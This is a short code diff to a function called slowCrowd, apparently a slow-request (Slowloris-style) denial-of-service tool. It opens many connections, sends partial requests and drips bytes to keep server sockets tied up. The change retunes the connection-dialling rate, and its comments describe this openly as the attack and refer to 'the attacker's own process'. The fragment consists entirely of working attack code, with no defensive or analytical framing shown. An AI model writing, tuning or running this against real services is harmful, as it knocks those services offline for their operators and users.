@@ -22,9 +22,9 @@ export async function slowCrowd(
     socket.on('error', () => socket.destroy()).on('close', () => open.delete(socket));
     socket.resume().write(begun);
   };
-  /** Not all at once: the attacker's own process has to keep up. */
+  /** Some thousand a second: slow requests are the attack, and not new connections. */
   const fill = setInterval(() => {
-    for (let count = 0; count < 200 && open.size < connections; count += 1) dial();
+    for (let count = 0; count < 50 && open.size < connections; count += 1) dial();
   }, 20);
   const dripping = setInterval(() => {
     for (const socket of open) socket.write(drip);
